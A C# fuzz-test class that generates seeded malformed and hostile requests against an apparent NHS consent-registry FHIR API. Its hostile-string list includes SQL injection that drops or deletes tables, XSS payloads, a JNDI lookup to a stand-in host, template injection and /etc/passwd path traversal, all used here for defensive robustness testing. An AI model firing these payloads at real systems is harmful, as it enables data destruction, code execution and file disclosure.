using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;

namespace ConsentApi.Tests.Reliability;

/// <summary>
/// Seeded generator of malformed and hostile requests for each public endpoint: truncated and invalid JSON, wrong
/// types, deep nesting, huge strings and arrays, invalid UTF-8, duplicate keys, bad and check-digit-failing NHS
/// numbers, injection strings in fields and parameters, absurd counts and numbers, bad dates, wrong content types and
/// methods. The same seed gives the same requests.
/// </summary>
public sealed class BadRequests(int seed, string targetId)
{
    private static readonly string[] Hostile =
    [
        "' OR '1'='1", "'; DROP TABLE consent_versions;--", "\"); DELETE FROM audit_events;--", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "${jndi:ldap://x.example/a}", "{{7*7}}", "../../../../etc/passwd", "\0", "%00", "\u202e\u0000\uffff", "😀😀😀", "\\", "\"", "'", "|", "||", "%", "%%",
        "-1", "0", "99999999999999999999999", "1e400", "-9223372036854775809", "NaN", "true", "null", "[]", "{}", " ", "",
        "9434765918", "943476591", "94347659190", "ABCDEFGHIJ", "0000000000", "https://fhir.nhs.uk/Id/nhs-number|9434765918", "system|",
        "2026-13-45", "yesterday", "0000-00-00T25:61:61Z", "99999-01-01", "gt", "eq", "ap2026", "lt-1",
    ];

    private static readonly string[] ContentTypes =
        ["application/fhir+json", "application/fhir+json", "application/json", "text/plain", "application/xml", "multipart/form-data", "application/x-www-form-urlencoded", "application/fhir+json; charset=latin1", "*/*"];

    private static readonly string[] ConsentParameters =
        ["patient", "patient.identifier", "patient:identifier", "status", "_id", "_lastUpdated", "date", "period", "policy", "category", "action", "actor",
         "purpose", "identifier", "_count", "_sort", "_total", "_summary", "_offset", "_snapshot", "_format", "_elements", "_include", "nonsense", "patient:missing", "date:exact"];

    private readonly Random random = new(seed);

    public FuzzCase Next(string endpoint) => endpoint switch
    {
        "create" => Body(endpoint, "POST", "/fhir/Consent", ValidConsent()),
        "update" => Body(endpoint, "PUT", $"/fhir/Consent/{(Chance(0.7) ? targetId : Escape(Pick(Hostile)))}", ValidConsent(targetId)),
        "search" => new FuzzCase(endpoint, Chance(0.8) ? "GET" : "DELETE", "/fhir/Consent?" + Query(ConsentParameters), null, null, "query"),
        "read" => new FuzzCase(endpoint, "GET", $"/fhir/Consent/{Escape(Pick(Hostile))}{(Chance(0.5) ? "/_history/" + Escape(Pick(Hostile)) : "")}", null, null, "id"),
        "post-search" => new FuzzCase(endpoint, "POST", "/fhir/Consent/_search", Encoding.UTF8.GetBytes(Query(ConsentParameters)), Pick(ContentTypes), "form"),
        "evaluate" => Chance(0.5)
            ? new FuzzCase(endpoint, "GET", "/fhir/Consent/$evaluate?" + Query(["patient", "purpose", "actor", "date", "legalBasis", "category", "x"]), null, null, "query")
            : Body(endpoint, "POST", "/fhir/Consent/$evaluate", """{"resourceType":"Parameters","parameter":[{"name":"patient","valueIdentifier":{"system":"https://fhir.nhs.uk/Id/nhs-number","value":"9434765919"}},{"name":"purpose","valueCoding":{"code":"HRESCH"}},{"name":"actor","valueString":"RR8"}]}"""),
        "bulk-check" => new FuzzCase(endpoint, "POST", "/fhir/$check-opt-outs?" + Query(["purpose", "disclosure", "x"]), NumberList(), Pick(ContentTypes), "list"),
        "token" => new FuzzCase(endpoint, "POST", "/auth/token", Encoding.UTF8.GetBytes(Query(["grant_type", "client_assertion_type", "client_assertion", "scope", "client_id", "code"])),
            Chance(0.8) ? "application/x-www-form-urlencoded" : Pick(ContentTypes), "form"),
        "cds-hooks" => Body(endpoint, "POST", "/cds-services/patient-consent-consult",
            """{"hookInstance":"1","hook":"patient-consent-consult","context":{"patientId":[{"system":"https://fhir.nhs.uk/Id/nhs-number","value":"9434765919"}],"actor":[{"system":"https://fhir.nhs.uk/Id/ods-organization-code","value":"RR8"}],"purposeOfUse":["HRESCH"]}}"""),
        "subscription" => Body(endpoint, "POST", "/fhir/Subscription",
            """{"resourceType":"Subscription","status":"requested","reason":"r","criteria":"Consent?patient=9434765919","channel":{"type":"rest-hook","endpoint":"https://example.org/hook","payload":"application/fhir+json","header":["A: b"]}}"""),
        "audit" => new FuzzCase(endpoint, "GET", "/fhir/AuditEvent?" + Query(["patient", "_count", "_before", "date", "x"]), null, null, "query"),
        _ => new FuzzCase(endpoint, Pick(["PATCH", "PUT", "DELETE", "POST", "OPTIONS", "TRACE"]),
            Pick(["/fhir/Consent", "/fhir/metadata", "/fhir/Consent/_history", "/fhir/AuditEvent", "/fhir/$check-opt-outs", "/fhir/Consent/$evaluate", "/fhir/Subscription/x/y/z", "/fhir/Patient"]),
            Chance(0.5) ? Encoding.UTF8.GetBytes(Pick(Hostile)) : null, Pick(ContentTypes), "method"),
    };

    private FuzzCase Body(string endpoint, string method, string path, string valid)
    {
        var (mutation, body) = random.Next(11) switch
        {
            0 => ("truncated", Encoding.UTF8.GetBytes(valid[..random.Next(valid.Length)])),
            1 => ("wrong type", Encoding.UTF8.GetBytes(Replace(valid, Pick(["123", "-1e309", "1e400", "[]", "{}", "null", "true", "\"x\"", "[[[[[]]]]]", "-9223372036854775809"])))),
            2 => ("deep nesting", Encoding.UTF8.GetBytes(valid.Insert(1, "\"extension\":" + new string('[', 5000) + new string(']', 5000) + ","))),
            3 => ("huge string", Encoding.UTF8.GetBytes(Replace(valid, "\"" + new string('A', random.Next(100_000, 3_000_000)) + "\""))),
            4 => ("huge array", Encoding.UTF8.GetBytes(valid.Insert(1, "\"category\":[" + string.Join(',', Enumerable.Repeat("{\"text\":\"x\"}", random.Next(1000, 200_000))) + "],"))),
            5 => ("invalid UTF-8", InvalidUtf8(valid)),
            6 => ("duplicate keys", Encoding.UTF8.GetBytes(valid.Insert(1, "\"status\":\"active\",\"status\":\"draft\","))),
            7 => ("hostile string", Encoding.UTF8.GetBytes(Replace(valid, System.Text.Json.JsonSerializer.Serialize(Pick(Hostile))))),
            8 => ("random bytes", RandomBytes()),
            9 => ("bad NHS number", Encoding.UTF8.GetBytes(valid.Replace("9434765919", Pick(["9434765918", "943476591", "ABCDEFGHIJ", "0000000000", "94347659190", "9434 765 919"]), StringComparison.Ordinal))),
            _ => ("bad date", Encoding.UTF8.GetBytes(valid.Replace("2025-06-02T10:15:00Z", Pick(["2026-13-45", "yesterday", "0000-00-00T25:61:61Z", "99999-01-01", "2026-02-30T00:00:00Z"]), StringComparison.Ordinal))),
        };
        return new FuzzCase(endpoint, method, path, body, Chance(0.85) ? "application/fhir+json" : Pick(ContentTypes), mutation);
    }

    /// <summary>Replaces one value somewhere in the JSON with the given JSON text.</summary>
    private string Replace(string json, string replacement)
    {
        var root = JsonNode.Parse(json)!;
        var values = new List<(JsonNode Parent, object Key)>();
        Collect(root, values);
        var (parent, key) = values[random.Next(values.Count)];
        var text = root.ToJsonString();
        var marker = "__FUZZ_" + random.Next().ToString(CultureInfo.InvariantCulture) + "__";
        if (key is string name)
        {
            parent[name] = marker;
        }
        else
        {
            parent[(int)key] = marker;
        }

        return root.ToJsonString().Replace("\"" + marker + "\"", replacement, StringComparison.Ordinal) is var mutated && mutated != text ? mutated : text;
    }

    private static void Collect(JsonNode node, List<(JsonNode, object)> values)
    {
        switch (node)
        {
            case JsonObject obj:
                foreach (var (name, child) in obj.ToList())
                {
                    values.Add((obj, name));
                    if (child is not null)
                    {
                        Collect(child, values);
                    }
                }

                break;
            case JsonArray array:
                for (var i = 0; i < array.Count; i++)
                {
                    values.Add((array, i));
                    if (array[i] is { } child)
                    {
                        Collect(child, values);
                    }
                }

                break;
        }
    }

    private string Query(string[] names)
    {
        // Up to 50,000 characters: past the registry's own URL limit (8,192), short of the web server's (64 KB).
        var count = Chance(0.05) ? random.Next(100, 400) : random.Next(1, 5);
        var query = new StringBuilder();
        for (var i = 0; i < count && query.Length < 50_000; i++)
        {
            var value = Chance(0.05) ? new string('9', random.Next(5_000, 20_000)) : Pick(Hostile);
            query.Append(i == 0 ? "" : "&").Append(Pick(names)).Append('=')
                .Append(Chance(0.8) ? Escape(value) : value.Replace("&", "", StringComparison.Ordinal).Replace("#", "", StringComparison.Ordinal));
        }

        var text = query.ToString();
        return text.Length <= 50_000 ? text : text[..Math.Max(text.LastIndexOf('&', 50_000), 0)];
    }

    private byte[] NumberList() => random.Next(4) switch
    {
        0 => Encoding.UTF8.GetBytes(string.Join('\n', Enumerable.Range(0, random.Next(1, 50)).Select(_ => Pick(Hostile)))),
        1 => RandomBytes(),
        2 => Encoding.UTF8.GetBytes("9434765919,\n" + new string('9', random.Next(10_000, 200_000)) + ",\n"),
        _ => Encoding.UTF8.GetBytes(string.Join("\r\n", Enumerable.Range(0, random.Next(1, 20)).Select(_ => "9434765918,"))),
    };

    private byte[] InvalidUtf8(string valid)
    {
        var bytes = Encoding.UTF8.GetBytes(valid).ToList();
        var at = valid.IndexOf("\"active\"", StringComparison.Ordinal) + 2;
        bytes.InsertRange(at, Pick<byte[]>([[0xC3, 0x28], [0xFF, 0xFE], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80]]));
        return [.. bytes];
    }

    private byte[] RandomBytes()
    {
        var bytes = new byte[random.Next(0, 4096)];
        random.NextBytes(bytes);
        return bytes;
    }

    private static string ValidConsent(string? id = null) => $$$"""
        {"resourceType":"Consent",{{{(id is null ? "" : $"\"id\":\"{id}\",")}}}"status":"active",
         "scope":{"coding":[{"system":"http://terminology.hl7.org/CodeSystem/consentscope","code":"patient-privacy"}]},
         "category":[{"coding":[{"system":"http://loinc.org","code":"59284-0"}]}],
         "patient":{"identifier":{"system":"https://fhir.nhs.uk/Id/nhs-number","value":"9434765919"}},
         "dateTime":"2025-06-02T10:15:00Z",
         "policy":[{"uri":"https://consentregistry.example/policy/research-contact"}],
         "provision":{"type":"permit","purpose":[{"system":"https://consentregistry.example/CodeSystem/purpose-of-use","code":"research-contact"}]}}
        """;

    private static string Escape(string value) => Uri.EscapeDataString(value);

    private bool Chance(double p) => random.NextDouble() < p;

    private T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];
}
